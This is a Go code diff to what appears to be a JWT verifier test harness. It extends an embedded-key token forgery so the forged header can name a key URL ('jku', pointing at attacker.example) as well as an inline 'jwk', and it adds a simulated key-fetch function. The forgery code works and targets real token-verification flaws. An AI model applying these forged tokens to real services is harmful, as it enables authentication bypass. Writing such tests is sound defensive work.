@@ -36,6 +36,9 @@ type Material struct {
 	Public Key
 	// Leaked is a key that should not have been seen.
 	Leaked *Key
+	// ByAddress has embedded-key say where the attacker's key can be fetched (jku)
+	// instead of bringing it along (jwk).
+	ByAddress bool
 	// Words are tried as secrets.
 	Words []string
 	Now   time.Time
@@ -137,11 +140,34 @@ func forgeKidPath(m *Material) (string, error) {
 }
 
 func forgeEmbeddedKey(m *Material) (string, error) {
-	seed := sha256.Sum256([]byte("a key of the attacker's own"))
-	private := ed25519.NewKeyFromSeed(seed[:])
-	public := base64.RawURLEncoding.EncodeToString(private.Public().(ed25519.PublicKey))
-	text := encode(`{"alg":"EdDSA","jwk":{"kty":"OKP","crv":"Ed25519","x":"`+public+`"},"typ":"JWT"}`) + "." + encode(m.payload())
+	private, jwk := attackerKey()
+	member := `"jwk":` + jwk
+	if m.ByAddress {
+		member = `"jku":"` + AttackerKeys + `"`
+	}
+	text := encode(`{"alg":"EdDSA",`+member+`,"typ":"JWT"}`) + "." + encode(m.payload())
 	return text + "." + base64.RawURLEncoding.EncodeToString(ed25519.Sign(private, []byte(text))), nil
+}
+
+// attackerKey is a key of the attacker's own, with its public half as JSON (RFC 8037 §2).
+func attackerKey() (private ed25519.PrivateKey, jwk string) {
+	seed := sha256.Sum256([]byte("a key of the attacker's own"))
+	private = ed25519.NewKeyFromSeed(seed[:])
+	public := base64.RawURLEncoding.EncodeToString(private.Public().(ed25519.PublicKey))
+	return private, `{"kty":"OKP","crv":"Ed25519","x":"` + public + `"}`
+}
+
+// AttackerKeys is where the attacker publishes the key.
+const AttackerKeys = "https://attacker.example/keys.json"
+
+// Fetch is what a server gets that asks for a set of keys by its address (RFC 7517 §5),
+// in a world where only the attacker publishes one; "" if nothing is there.
+func Fetch(address string) string {
+	if address != AttackerKeys {
+		return ""
+	}
+	_, jwk := attackerKey()
+	return `{"keys":[` + jwk + `]}`
 }
 
 func forgeNoAudience(m *Material) (string, error) {
